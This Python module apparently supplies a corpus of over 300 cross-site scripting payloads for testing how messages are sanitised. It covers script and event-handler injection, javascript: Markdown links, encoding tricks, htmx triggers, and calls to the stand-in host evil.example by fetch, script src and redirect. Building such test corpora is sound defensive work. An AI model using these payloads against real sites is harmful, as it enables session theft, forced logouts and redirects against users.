"""What somebody may send to have a script run, or a request made, in another's browser; more than 300 texts.

After the corpora of OWASP (XSS filter evasion), html5sec.org and PortSwigger, made anew for what a message goes
through: Markdown, links, attributes, htmx and templates.
"""

# ruff: noqa: E501 - each payload in one piece

from __future__ import annotations

from itertools import product

_SCRIPTS = (
    "<script>{x}</script>", "<SCRIPT>{x}</SCRIPT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{x}",
    "<script\n>{x}</script\n>", "<script/x>{x}</script>", "<<script>{x}//<</script>", "<svg><script>{x}</script></svg>",
    "<svg onload={x}>", "<svg/onload={x}>", "<img src=x onerror={x}>", "<img src=x:alert(alt) onerror=eval(src) alt=x>",
    "<img/src/onerror={x}>", "<body onload={x}>", "<iframe srcdoc='<script>{x}</script>'>", "<math><mtext></form><img onerror={x}>",
    "<iframe src=javascript:{x}>", "<object data=javascript:{x}>", "<embed src=javascript:{x}>", "<a href=javascript:{x}>a</a>",
    "<details open ontoggle={x}>", "<input autofocus onfocus={x}>", "<marquee onstart={x}>", "<video><source onerror={x}>",
    "<form action=javascript:{x}><input type=submit>", "<button formaction=javascript:{x}>b</button>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><img src=x onerror={x}></template>", "<noscript><p title='</noscript><img src=x onerror={x}>'>", "<xmp><img src=x onerror={x}></xmp>",
    "<div style=background:url(//evil.example/x)>", "<p style='width:expression({x})'>", "<isindex action=javascript:{x} type=image>",
    "<plaintext><img src=x onerror={x}>", "<table background=javascript:{x}>", "<bgsound src=javascript:{x}>", "<keygen autofocus onfocus={x}>",
    "</li></ol><img src=x onerror={x}>", "--><img src=x onerror={x}>", "]]><img src=x onerror={x}>", "'\"><img src=x onerror={x}>",
    "<div hx-get=//evil.example hx-trigger=load>", "<div data-hx-post=/accounts/logout/ hx-trigger=load>", "<p hx-on:click={x}>", "<b hx-on::load={x}>",
    "<i data-live-topic=group:1 data-live-url=//evil.example>", "<a data-dialog=x onclick={x}>", "{{{{ x }}}}{{% debug %}}<img onerror={x}>",
)  # fmt: skip
_LINKS = (
    "[a](javascript:{x})", "[a](JaVaScRiPt:{x})", "[a](javascript&colon;{x})", "[a](java\tscript:{x})", "[a](java\nscript:{x})",
    "[a](&#106;avascript:{x})", "[a](\\javascript:{x})", "[a]( javascript:{x})", "[a](<javascript:{x}>)", "<javascript:{x}>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:{x})", "[a](file:///etc/passwd)", "![a](javascript:{x})",
    "![a](//evil.example/x.png)", "![a](https://evil.example/x.png \"onerror={x}\")", "[a](https://x.example/\"onmouseover={x})",
    "[a](https://x.example/'onmouseover='{x})", "[a](https://x.example \"t\\\"onmouseover={x}\")", "[a]: javascript:{x}\n\n[a]",
    "[a](//evil.example)", "[a](/accounts/logout/)", "[a](https:javascript:{x})", "[<img src=x onerror={x}>](https://x.example)",
    "https://x.example/<script>{x}</script>", "https://x.example/\"onmouseover=\"{x}", "<https://x.example/onload={x}>", "mailto:a@b\"onclick={x}",
    "[a](mailto:a@b.example?subject=<script>{x}</script>)", "[a](\x01javascript:{x})", "[a](javascript\x00:{x})", "[a](\u0001javascript:{x})",
    "@<img src=x onerror={x}>", "```<img src=x onerror={x}>```", "`<img src=x onerror={x}>`", "> <img src=x onerror={x}>", "- <svg onload={x}>",
)  # fmt: skip
_ACTS = ("alert(1)", "fetch('//evil.example')", "top['al'+'ert'](1)", "location='//evil.example'")

PAYLOADS = tuple(
    dict.fromkeys(
        text.replace("{x}", act).replace("{{", "{").replace("}}", "}")
        for text, act in product((*_SCRIPTS, *_LINKS), _ACTS)
    )
)
